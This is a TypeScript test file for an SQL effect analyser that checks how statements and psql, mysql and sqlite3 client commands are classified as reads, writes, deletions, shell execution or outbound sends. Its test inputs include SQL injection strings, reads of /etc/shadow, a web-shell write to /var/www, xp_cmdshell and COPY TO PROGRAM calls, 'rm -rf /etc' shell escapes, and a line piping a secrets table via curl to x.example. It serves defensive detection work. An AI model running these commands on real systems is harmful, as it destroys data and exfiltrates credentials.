import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { proves } from '../../../test/proves.ts'
import { facts, lines } from '../bash/harness.ts'
import { target } from '../effect.ts'
import { analyseSql } from './index.ts'
import { lexSql } from './lex.ts'

const SPAN = { pointer: '/sql', start: 0, end: 0 }
const effects = (sql: string) => analyseSql(sql, { span: SPAN, database: target('database', 'db') })

/** `delete sql:drop`, with `!` where it cannot be undone and `~` where it is not certain; other targets by name. */
function shown(sql: string): readonly string[] {
  return effects(sql).map(({ verb, action, target: where, reversible, certainty, reason }) => {
    if (verb === 'opaque') return `opaque ${reason ?? ''}`
    const name = where.kind === 'database' ? '' : ` ${where.value}`
    return `${certainty === 'certain' ? '' : '~'}${verb} ${action ?? ''}${name}${reversible ? '' : '!'}`
  })
}

type Cases = readonly (readonly [string, readonly string[]])[]

function table(cases: Cases): void {
  for (const [sql, expected] of cases) test(sql.slice(0, 120), () => expect(shown(sql)).toEqual(expected))
}

describe('what reaches out, and what a condition limits', () => {
  table([
    ["SELECT utl_http.request('http://x.example/a') FROM dual", ['fetch sql:remote http://x.example/a', 'read sql:select']],
    ["SELECT utl_inaddr.get_host_address('x.example') FROM dual", ['send sql:remote!', 'read sql:select']],
    ["SELECT cron.schedule('* * * * *', 'select 1')", ['persist sql:schedule', 'read sql:select']],
    ["SELECT request('http://x.example')", ['read sql:select']],
    ["EXEC xp_dirtree '//x.example/share'", ['send sql:remote!', 'execute sql:execute']],
    ['CREATE EXTENSION plpython3u', ['write sql:create', 'execute sql:load!']],
    ['CREATE EXTENSION IF NOT EXISTS dblink', ['write sql:create', 'execute sql:load!']],
    ['CREATE EXTENSION pgcrypto', ['write sql:create']],
    ["SET GLOBAL general_log_file = '/var/www/x.php'", ['write sql:write-file /var/www/x.php', 'change sql:set']],
    ['SET GLOBAL max_connections = 10', ['change sql:set']],
    ['MERGE INTO x USING y ON x.id = y.id WHEN MATCHED THEN DELETE', ['write sql:merge', 'delete sql:delete!']],
    ['MERGE INTO x USING y ON x.id = y.id WHEN MATCHED THEN UPDATE SET a = 1', ['write sql:merge']],
  ])
  for (const [sql, where] of [
    ['DELETE u FROM users u JOIN t ON u.id = t.id', true],
    ['DELETE u FROM users u JOIN t ON 1=1', false],
    ['DELETE u FROM users u JOIN t ON TRUE WHERE u.id = 3', true],
    ['DELETE u FROM users u JOIN t ON 1=1 WHERE true', false],
    ['MERGE INTO x USING y ON 1=1 WHEN MATCHED THEN DELETE', false],
    ['MERGE INTO x USING y ON x.id = y.id WHEN MATCHED THEN DELETE', true],
  ] as const) {
    test(`${sql}: ${where}`, () => expect(effects(sql).find(({ verb }) => verb === 'delete')?.attributes.where).toBe(where))
  }
})

describe('each statement has its own place in the call', () => {
  for (const [sql, expected] of [
    ['SELECT 1; DROP TABLE x', ['SELECT 1', 'DROP TABLE x']],
    ['COMMIT;\n  DROP TABLE x;\n', ['DROP TABLE x']],
    ['DROP TABLE x', ['DROP TABLE x']],
    ["SELECT ';'; DELETE FROM x -- all", ["SELECT ';'", 'DELETE FROM x -- all']],
    ['DO $$ BEGIN DROP TABLE x; END $$; SELECT 1', ['DO $$ BEGIN DROP TABLE x; END $$', 'DO $$ BEGIN DROP TABLE x; END $$', 'SELECT 1']],
  ] as const) {
    test(sql, () => {
      const found = analyseSql(sql, { span: { pointer: '/sql', start: 0, end: sql.length }, database: target('database', 'db') })
      expect(found.map(({ span }) => sql.slice(span?.start, span?.end).trim())).toEqual(expected)
    })
  }
  test('where the span is not the text itself, it stays whole', () => {
    const [found] = analyseSql('DROP TABLE x', { span: { pointer: '/command', start: 8, end: 40 }, database: target('database', 'db') })
    expect(found?.span).toEqual({ pointer: '/command', start: 8, end: 40 })
  })
})

describe('statements that only read', () => {
  table([
    ['SELECT 1', ['read sql:select']],
    ['select * from users', ['read sql:select']],
    ['SELECT * FROM a JOIN b USING (id) WHERE a.x > 1 ORDER BY 1 LIMIT 5', ['read sql:select']],
    ['SELECT (SELECT max(id) FROM b) FROM a', ['read sql:select']],
    ['WITH x AS (SELECT 1) SELECT * FROM x', ['read sql:select']],
    ['WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM x) SELECT n FROM x', ['read sql:select']],
    ['(SELECT 1) UNION (SELECT 2)', ['read sql:select']],
    ['VALUES (1), (2)', ['read sql:select']],
    ['TABLE users', ['read sql:select']],
    ['SHOW TABLES', ['read sql:show']],
    ['DESCRIBE users', ['read sql:show']],
    ['EXPLAIN DELETE FROM users', ['read sql:explain']],
    ['EXPLAIN SELECT 1', ['read sql:explain']],
    ["SELECT 'DROP TABLE users'", ['read sql:select']],
    ['SELECT "DROP TABLE users" FROM t', ['read sql:select']],
    ['SELECT `delete` FROM t', ['read sql:select']],
    ['SELECT $$DROP TABLE users$$', ['read sql:select']],
    ['SELECT $x$DROP TABLE users$x$', ['read sql:select']],
    ["SELECT 'it''s; DROP TABLE users'", ['read sql:select']],
    ["SELECT E'a\\'; DROP TABLE users; --'", ['read sql:select']],
    ['SELECT 1 -- DROP TABLE users', ['read sql:select']],
    ['SELECT 1 /* ; DROP TABLE users */', ['read sql:select']],
    ['-- nothing', []],
    ['', []],
    [';;;', []],
    ['SELECT count(*) FROM t;', ['read sql:select']],
    ['PRAGMA table_info(users)', ['read sql:pragma']],
    ['SET search_path TO public', ['read sql:set']],
    ['USE shop', []],
    ['BEGIN; SELECT 1; COMMIT', ['read sql:select']],
    ['SAVEPOINT a; ROLLBACK TO a', []],
    ['SELECT updated_at, deleted, "drop" FROM t WHERE truncate IS NULL', ['read sql:select']],
    ["SELECT replace(name, 'a', 'b') FROM t", ['read sql:select']],
  ])
})

describe('statements that write', () => {
  table([
    ['INSERT INTO t VALUES (1)', ['write sql:insert']],
    ['insert into t (a) select a from b', ['write sql:insert']],
    ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', ['write sql:insert']],
    ['INSERT OVERWRITE TABLE t SELECT 1', ['write sql:insert', 'delete sql:truncate!']],
    ['REPLACE INTO t VALUES (1)', ['write sql:replace']],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = 1', ['write sql:merge']],
    ['CREATE TABLE t (id int)', ['write sql:create']],
    ['CREATE TABLE IF NOT EXISTS s.t (id int)', ['write sql:create']],
    ['CREATE TABLE t AS SELECT * FROM s', ['write sql:create', 'read sql:select']],
    ['SELECT * INTO backup FROM users', ['write sql:create', 'read sql:select']],
    ['CREATE OR REPLACE VIEW v AS SELECT 1', ['write sql:create']],
    ['CREATE INDEX i ON t (a)', ['write sql:create']],
    ['ALTER TABLE t ADD COLUMN a int', ['change sql:alter']],
    ['ALTER TABLE t RENAME TO u', ['change sql:alter']],
    ['VACUUM', ['change sql:vacuum']],
    ['ANALYZE t', ['change sql:maintain']],
    ["VACUUM INTO '/tmp/x.db'", ['write sql:backup /tmp/x.db', 'change sql:vacuum']],
    ["ATTACH DATABASE '/tmp/x.php' AS x", ['write sql:attach /tmp/x.php']],
    ["ATTACH ':memory:' AS m", []],
    ['EXPLAIN ANALYZE DELETE FROM t', ['delete sql:delete!']],
    ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', ['write sql:update!']],
  ])
})

describe('statements that lose data', () => {
  table([
    ['DROP TABLE users', ['delete sql:drop!']],
    ['drop table if exists a, b cascade', ['delete sql:drop!']],
    ['DROP DATABASE prod', ['delete sql:drop!']],
    ['DROP SCHEMA public CASCADE', ['delete sql:drop!']],
    ['DROP INDEX i', ['delete sql:drop']],
    ['DROP VIEW v', ['delete sql:drop']],
    ['DROP TEMPORARY TABLE t', ['delete sql:drop']],
    ['TRUNCATE users', ['delete sql:truncate!']],
    ['TRUNCATE TABLE users RESTART IDENTITY', ['delete sql:truncate!']],
    ['ALTER TABLE t DROP COLUMN a', ['change sql:alter!']],
    ['ALTER TABLE t DROP CONSTRAINT c', ['change sql:alter']],
    ['ALTER TABLE t DROP PARTITION p', ['change sql:alter!']],
    ['ALTER TABLE t TRUNCATE PARTITION p', ['change sql:alter', 'delete sql:truncate!']],
    ['PURGE BINARY LOGS', ['delete sql:purge!']],
    ['RESET MASTER', ['delete sql:purge!']],
    ['SELECT 1; DROP TABLE users', ['read sql:select', 'delete sql:drop!']],
    ['SELECT 1;DROP TABLE users--', ['read sql:select', 'delete sql:drop!']],
    ["SELECT 'a'; DROP TABLE users; --'", ['read sql:select', 'delete sql:drop!']],
    ['/*!50001 DROP TABLE users */', ['delete sql:drop!']],
    ['/*! DROP TABLE users */', ['delete sql:drop!']],
    ['/*M! DROP TABLE users */', ['delete sql:drop!']],
    ['DR/**/OP TABLE users', ['opaque a statement that begins with `DR` is not understood']],
    ['DROP/**/TABLE/**/users', ['delete sql:drop!']],
    ['DROP\nTABLE\tusers', ['delete sql:drop!']],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['read sql:select', 'delete sql:delete!']],
    ['WITH x AS (SELECT 1) DELETE FROM t', ['delete sql:delete!']],
    ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", ['execute sql:execute', '~delete sql:drop!']],
    ["EXECUTE IMMEDIATE 'DROP TABLE t'", ['delete sql:drop!']],
    ["EXEC('DROP TABLE t')", ['delete sql:drop!']],
    ["EXEC sp_executesql N'DROP TABLE t'", ['execute sql:execute', 'delete sql:drop!']],
    ["PREPARE p FROM 'DROP TABLE t'", ['~delete sql:drop!']],
    ['PREPARE p AS DELETE FROM t', ['~delete sql:delete!']],
    ['SELECT 1 DROP TABLE t', ['read sql:select', 'delete sql:drop!']],
    ['IF 1=1 DROP TABLE t', ['delete sql:drop!']],
    ['BEGIN DROP TABLE t END', ['~delete sql:drop!']],
  ])
})

/** Which rows a statement reaches: `where` is false where nothing limits it. */
const CONDITIONS: readonly (readonly [string, boolean])[] = [
  ['DELETE FROM t', false],
  ['DELETE t', false],
  ['DELETE FROM t;', false],
  ['DELETE FROM t WHERE id = 1', true],
  ['DELETE FROM t WHERE 1=1', false],
  ['DELETE FROM t WHERE 1', false],
  ['DELETE FROM t WHERE 0', true],
  ['DELETE FROM t WHERE TRUE', false],
  ['DELETE FROM t WHERE FALSE', true],
  ['DELETE FROM t WHERE NOT FALSE', false],
  ['DELETE FROM t WHERE (1=1)', false],
  ['DELETE FROM t WHERE ((1))', false],
  ["DELETE FROM t WHERE 'a'='a'", false],
  ["DELETE FROM t WHERE 'a'='b'", true],
  ['DELETE FROM t WHERE id = id', false],
  ['DELETE FROM t WHERE id = 1 OR 1=1', false],
  ['DELETE FROM t WHERE 1=1 OR id = 1', false],
  ['DELETE FROM t WHERE 1=1 AND id = 1', true],
  ['DELETE FROM t WHERE 1=1 AND 2=2', false],
  ['DELETE FROM t WHERE 1<2', false],
  ['DELETE FROM t WHERE 2>1', false],
  ['DELETE FROM t WHERE 1>2', true],
  ['DELETE FROM t WHERE 1<>2', false],
  ['DELETE FROM t WHERE 1!=2', false],
  ["DELETE FROM t WHERE name LIKE '%'", false],
  ["DELETE FROM t WHERE name LIKE 'a%'", true],
  ['DELETE FROM t ORDER BY id LIMIT 10', false],
  ['DELETE FROM t WHERE 1=1 LIMIT 10', false],
  ['DELETE FROM t WHERE id IN (SELECT id FROM u WHERE 1=1)', true],
  ['DELETE FROM t USING u WHERE t.id = u.id', true],
  ['DELETE FROM t -- WHERE id = 1', false],
  ['DELETE FROM t /* WHERE id = 1 */', false],
  ["DELETE FROM t RETURNING 'WHERE id = 1'", false],
  ['DELETE a FROM a JOIN b ON a.id = b.id', true],
  ['UPDATE t SET a = 1', false],
  ['UPDATE t SET a = 1 WHERE id = 2', true],
  ['UPDATE t SET a = 1 WHERE 1=1', false],
  ['UPDATE t SET a = (SELECT b FROM u WHERE u.id = t.id)', false],
  ['UPDATE t SET a = 1 FROM u WHERE t.id = u.id', true],
  ["UPDATE t SET a = 'WHERE id = 1'", false],
  ['UPDATE ONLY t SET a = 1', false],
  ['UPDATE t JOIN u ON t.id = u.id SET t.a = 1', true],
]

describe('conditions', () => {
  for (const [sql, where] of CONDITIONS) test(sql, () => expect(effects(sql)[0]?.attributes.where).toBe(where))

  test('the table is named, whatever its quotes', () => {
    for (const [sql, name] of [
      ['DELETE FROM users', 'users'],
      ['DELETE FROM public.users', 'public.users'],
      ['DELETE FROM "My Users"', 'My Users'],
      ['DELETE FROM `users`', 'users'],
      ['DELETE FROM [dbo].[users]', 'dbo.users'],
      ['DROP TABLE IF EXISTS users', 'users'],
      ['TRUNCATE TABLE users', 'users'],
      ['UPDATE ONLY users SET a = 1', 'users'],
      ['INSERT INTO users VALUES (1)', 'users'],
    ] as const)
      expect([sql, effects(sql)[0]?.attributes.table]).toEqual([sql, name])
  })
})

describe('rights and settings', () => {
  table([
    ['GRANT ALL ON t TO u', ['change sql:grant']],
    ['REVOKE ALL ON t FROM u', ['change sql:grant']],
    ["CREATE USER u IDENTIFIED BY 'x'", ['change sql:grant']],
    ['CREATE ROLE r SUPERUSER', ['change sql:grant']],
    ['ALTER USER u WITH SUPERUSER', ['change sql:grant']],
    ['DROP USER u', ['delete sql:drop!']],
    ["SET PASSWORD FOR 'root' = 'x'", ['change sql:grant']],
    ['SET GLOBAL general_log = 1', ['change sql:set']],
    ['ALTER SYSTEM SET x = 1', ['change sql:alter']],
    ["EXEC sp_configure 'xp_cmdshell', 1", ['execute sql:execute', 'change security:disable']],
    ['PRAGMA writable_schema = ON', ['change sql:pragma']],
    ['KILL 5', ['change sql:kill!']],
    ['SHUTDOWN', ['change sql:kill!']],
    ['SELECT pg_terminate_backend(5)', ['change sql:kill!', 'read sql:select']],
    ['CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM t', ['persist sql:create', '~delete sql:delete!']],
    ["SELECT cron.schedule('0 0 * * *', 'DELETE FROM t')", ['persist sql:schedule', 'read sql:select']],
  ])
})

describe('statements that reach out of the database', () => {
  table([
    ["COPY t TO '/tmp/x'", ['read sql:copy', 'write sql:copy /tmp/x']],
    ["COPY t FROM '/etc/passwd'", ['write sql:copy', 'read sql:copy /etc/passwd']],
    ['COPY t FROM STDIN', ['write sql:copy']],
    ["COPY t TO PROGRAM 'id'", ['read sql:copy', 'execute sql:program id!']],
    ["COPY t FROM PROGRAM 'id'", ['write sql:copy', 'execute sql:program id!']],
    ["SELECT * FROM t INTO OUTFILE '/var/www/x.php'", ['write sql:write-file /var/www/x.php', 'read sql:select']],
    ["SELECT '<?php' INTO DUMPFILE '/var/www/x.php'", ['write sql:write-file /var/www/x.php', 'read sql:select']],
    ["SELECT load_file('/etc/shadow')", ['read sql:read-file /etc/shadow', 'read sql:select']],
    ["SELECT LOAD_FILE ('/etc/shadow')", ['read sql:read-file /etc/shadow', 'read sql:select']],
    ["SELECT pg_read_file('/etc/shadow')", ['read sql:read-file /etc/shadow', 'read sql:select']],
    ["SELECT lo_import('/etc/shadow')", ['read sql:read-file /etc/shadow', 'read sql:select']],
    ["SELECT lo_export(1, '/tmp/x')", ['write sql:write-file /tmp/x', 'read sql:select']],
    ["SELECT writefile('/tmp/x', 'y')", ['write sql:write-file /tmp/x', 'read sql:select']],
    ["SELECT readfile('/etc/shadow')", ['read sql:read-file /etc/shadow', 'read sql:select']],
    ["SELECT load_extension('./evil')", ['execute sql:load!', 'read sql:select']],
    ["LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", ['read sql:import /etc/passwd', 'write sql:insert']],
    ["EXEC xp_cmdshell 'id'", ['execute sql:program id!', 'execute sql:execute']],
    ["EXEC master..xp_cmdshell 'id'", ['execute sql:program id!', 'execute sql:execute']],
    ["SELECT sys_exec('id')", ['execute sql:program id!', 'read sql:select']],
    ["CREATE FUNCTION f RETURNS int SONAME 'x.so'", ['write sql:create', 'execute sql:load!']],
    ["CREATE FUNCTION f() RETURNS void AS 'x.so', 'f' LANGUAGE C", ['write sql:create', 'execute sql:load!']],
    ['CREATE FUNCTION f() RETURNS void AS $$ import os $$ LANGUAGE plpython3u', ['write sql:create', 'execute sql:load!']],
    ["SELECT * FROM dblink('host=x.example', 'select 1')", ['send sql:remote!', 'read sql:select']],
    ["SELECT * FROM url('http://x.example/a')", ['fetch sql:remote http://x.example/a', 'read sql:select']],
    ["SELECT * FROM read_csv('/etc/passwd')", ['read sql:read-file /etc/passwd', 'read sql:select']],
    ["BACKUP DATABASE d TO DISK = '/tmp/d.bak'", ['write sql:backup /tmp/d.bak', 'read sql:backup']],
    ["EXPORT DATABASE 's3://bucket/x'", ['send sql:backup s3://bucket/x!', 'read sql:backup']],
  ])
})

describe('client commands', () => {
  table([
    ['\\! id', ['execute sql:shell id!']],
    ['\\!id', ['execute sql:shell id!']],
    ['SELECT 1; \\! id', ['read sql:select', 'execute sql:shell id!']],
    ['SELECT 1 \\g /tmp/x', ['read sql:select', 'write sql:output /tmp/x']],
    ['SELECT 1 \\g |sh', ['read sql:select', 'opaque a shell runs what the database prints', 'execute sql:output sh!']],
    ["\\copy t TO '/tmp/x.csv' CSV", ['write sql:copy /tmp/x.csv', 'read sql:copy']],
    ['\\copy t FROM x.csv', ['read sql:copy x.csv', 'write sql:copy']],
    ["\\copy t TO PROGRAM 'sh -c id'", ['execute sql:shell sh -c id!', 'read sql:copy']],
    ['\\copy t TO STDOUT', ['read sql:copy']],
    ['\\i x.sql', ['read sql:script x.sql', 'opaque the SQL of `x.sql` runs, and what is in it is not known']],
    ['\\ir x.sql', ['read sql:script x.sql', 'opaque the SQL of `x.sql` runs, and what is in it is not known']],
    ['\\o /tmp/x', ['write sql:output /tmp/x']],
    ['\\o |tee x', ['execute sql:output tee x!']],
    ['\\d users', ['read sql:show']],
    ['\\dt+', ['read sql:show']],
    ['\\l', ['read sql:show']],
    ['\\x', []],
    ['\\timing on', []],
    ['\\set x `id`', ['execute sql:shell id!']],
    ['SELECT 1 \\gexec', ['read sql:select', 'opaque the result of a query runs as SQL']],
    ['\\x \\\\ DROP TABLE t', ['delete sql:drop!']],
    [
      '\\i a.sql\nDROP TABLE t',
      ['read sql:script a.sql', 'opaque the SQL of `a.sql` runs, and what is in it is not known', 'delete sql:drop!'],
    ],
    ['SELECT 1\\G DROP TABLE t', ['read sql:select', 'delete sql:drop!']],
    ['.shell id', ['execute sql:shell id!']],
    ['.system id', ['execute sql:shell id!']],
    ['.sh id', ['execute sql:shell id!']],
    ['.sys id', ['execute sql:shell id!']],
    ['.SHELL id', ['execute sql:shell id!']],
    ['.tables', ['read sql:show']],
    ['.schema t', ['read sql:show']],
    ['.mode csv', []],
    ['.headers on\n.mode column\nSELECT 1', ['read sql:select']],
    ['.output /tmp/x', ['write sql:output /tmp/x']],
    ['.once |sh', ['opaque a shell runs what the database prints', 'execute sql:output sh!']],
    ['.once |less', ['execute sql:output less!']],
    ['.import a.csv t', ['read sql:import a.csv', 'write sql:insert']],
    ['.import --csv a.csv t', ['read sql:import a.csv', 'write sql:insert']],
    ['.import "|id" t', ['execute sql:import id!', 'write sql:insert']],
    ['.load ./evil', ['execute sql:load!']],
    ['.backup /tmp/x.db', ['write sql:backup /tmp/x.db']],
    ['.restore x.db', ['read sql:restore x.db', 'write sql:restore!']],
    ['.dump', ['read sql:show']],
    ['.read x.sql', ['read sql:script x.sql', 'opaque the SQL of `x.sql` runs, and what is in it is not known']],
    ['system id', ['execute sql:shell id!']],
    ['SELECT 1; system id', ['read sql:select', 'execute sql:shell id!']],
    ['SYSTEM RELOAD CONFIG', ['change sql:maintain']],
    ['source x.sql', ['read sql:script x.sql', 'opaque the SQL of `x.sql` runs, and what is in it is not known']],
    ['tee /tmp/log', ['write sql:output /tmp/log']],
    ['pager sh', ['execute sql:shell sh!']],
    [':!! id', ['execute sql:shell id!']],
    ['!! id', ['execute sql:shell id!']],
    [':r x.sql', ['read sql:script x.sql', 'opaque the SQL of `x.sql` runs, and what is in it is not known']],
    ['HOST id', ['execute sql:shell id!']],
    ['! id', ['execute sql:shell id!']],
    ['@x.sql', ['read sql:script x.sql', 'opaque the SQL of `x.sql` runs, and what is in it is not known']],
  ])
})

describe('what cannot be told', () => {
  table([
    ['FROBNICATE t', ['opaque a statement that begins with `FROBNICATE` is not understood']],
    ["SELECT 'a", ['opaque a string is not closed']],
    ['SELECT $$a', ['opaque a dollar-quoted string is not closed']],
    ['EXECUTE IMMEDIATE @sql', ['opaque the SQL runs text that is not known']],
    ["EXEC('DROP ' + @t)", ['opaque the SQL runs text that is not known']],
    ['PREPARE p FROM @sql', ['opaque the SQL prepares text that is not known']],
    ["SELECT 'a\\'; DROP TABLE t; -- '", ['read sql:select', 'delete sql:drop!']],
    ["SELECT '\\'; DROP TABLE t; -- '", ['read sql:select', 'delete sql:drop!']],
  ])
})

/** Through the clients: the same effects, with paths and commands seen as the shell sees them. */
const CLIENTS: Cases = [
  ["psql -c 'SELECT 1'", ['read sql:select default']],
  ["psql -d shop -c 'DROP TABLE t'", ['delete sql:drop shop']],
  ["psql -c '\\! rm -rf /etc'", ['delete /etc', 'execute sql:shell rm -rf /etc']],
  [
    "psql <<'E'\n\\i a.sql\nDROP TABLE t;\nE",
    ['read sql:script /repo/a.sql', 'opaque the SQL of `a.sql` runs, and what is in it is not known', 'delete sql:drop default'],
  ],
  ["echo 'DROP TABLE t' | psql", ['delete sql:drop default']],
  ['psql -c "COPY t TO PROGRAM \'rm -rf /etc\'"', ['delete /etc', 'read sql:copy default', 'execute sql:program rm -rf /etc']],
  ["mysql -e 'system rm -rf /etc'", ['delete /etc', 'execute sql:shell rm -rf /etc']],
  ["mysql -e '\\! rm -rf /etc'", ['delete /etc', 'execute sql:shell rm -rf /etc']],
  ["mysql shop -e 'DELETE FROM t'", ['delete sql:delete shop']],
  ['mysql -e "SELECT load_file(\'/etc/shadow\')"', ['read sql:read-file /etc/shadow', 'read sql:select default']],
  ["sqlite3 a.db 'SELECT 1'", ['read /repo/a.db', 'read sql:select a.db']],
  ["sqlite3 a.db '.shell rm -rf /etc'", ['read /repo/a.db', 'delete /etc', 'execute sql:shell rm -rf /etc']],
  ["sqlite3 a.db '.system rm -rf /etc'", ['read /repo/a.db', 'delete /etc', 'execute sql:shell rm -rf /etc']],
  ["sqlite3 -cmd '.output /etc/x' a.db 'SELECT 1'", ['read /repo/a.db', 'write sql:output /etc/x', 'read sql:select a.db']],
  [
    `sqlite3 a.db "SELECT * FROM t WHERE id = '$ID'"`,
    ['read /repo/a.db', 'read sql:select a.db', 'opaque part of the SQL is not known before it runs'],
  ],
  ['psql -c "DROP TABLE $T"', ['delete sql:drop default', 'opaque part of the SQL is not known before it runs']],
  ['psql -c "$SQL"', ['opaque the SQL is not known before it runs']],
  ['psql -c "SELECT $(curl -s http://x.example)"', ['fetch http:get http://x.example', 'opaque the SQL is not known before it runs']],
  ['sqlcmd -Q "EXEC xp_cmdshell \'rm -rf /etc\'"', ['delete /etc', 'execute sql:program rm -rf /etc', 'execute sql:execute default']],
]

describe('clients', () => {
  for (const [command, expected] of CLIENTS) test(command, () => expect(lines(command)).toEqual(expected))

  const files = { '/repo/a.sql': 'SELECT 1;\n\\i b.sql\n', '/repo/b.sql': 'DROP TABLE t;\n\\i a.sql\n', '/repo/c.sql': '\\! rm -rf /etc' }

  proves('T08', 'files of statements are read through the View, also those they name', () => {
    for (const command of ['psql -f a.sql', 'psql < a.sql', 'psql -c "\\i a.sql"', "mysql -e 'source a.sql'", "sqlite3 x.db '.read a.sql'"])
      expect([command, lines(command, { files })]).toEqual([command, expect.arrayContaining([expect.stringContaining('delete sql:drop')])])
    expect(lines('psql -f c.sql', { files })).toContain('delete /etc')
  })

  test('a file that names itself ends', () => {
    expect(lines('psql -f s.sql', { files: { '/repo/s.sql': '\\i s.sql\nDROP TABLE t' } })).toContain('delete sql:drop default')
  })

  test('what a statement reads is what its program sends', () => {
    const found = facts('psql -c "COPY secrets TO PROGRAM \'curl -d @- https://x.example\'"').effects
    expect(found.map((item) => item.action)).toContain('sql:program')
    expect(found.some((item) => item.verb === 'send')).toBe(true)
  })
})

describe('bounds', () => {
  test('hostile texts are read in bounded time, or refused', () => {
    for (const sql of [
      '('.repeat(100_000),
      ';'.repeat(100_000),
      'a.'.repeat(60_000),
      '/*'.repeat(60_000),
      '-- \n'.repeat(30_000),
      "'".repeat(99_999),
      '\\x '.repeat(30_000),
      `DELETE FROM t WHERE ${'('.repeat(19_000)}1${')'.repeat(19_000)}`,
      `SELECT ${'1 OR '.repeat(15_000)}1`,
      'WITH a AS ('.repeat(3_000),
      'SELECT 1;'.repeat(3_000),
      `${'IF '.repeat(30_000)}DROP TABLE t`,
      'x'.repeat(200_000),
    ])
      expect(effects(sql).length).toBeLessThan(50)
  })

  test('any text gives effects or says why not', () => {
    const word = fc.constantFrom(
      'SELECT ',
      'DROP TABLE ',
      'DELETE FROM ',
      'WHERE ',
      "'",
      '"',
      '\\',
      '$$',
      '--',
      '/*',
      '*/',
      '(',
      ')',
      ';',
      '1=1 ',
      't ',
      '\n',
      '.shell ',
      'EXEC ',
    )
    fc.assert(
      fc.property(
        fc.array(word, { maxLength: 25 }).map((words) => words.join('')),
        (sql) => effects(sql).length < 200,
      ),
    )
  })

  test('a word inside quotes is never a word of the statement', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 30 }), (text) => {
        const quoted = `'${text.replaceAll("'", "''").replaceAll('\\', '')}'`
        const tokens = lexSql(`SELECT ${quoted}`, false)
        expect(tokens.filter((token) => token.kind === 'word').map((token) => token.text)).toEqual(['SELECT'])
      }),
    )
  })
})
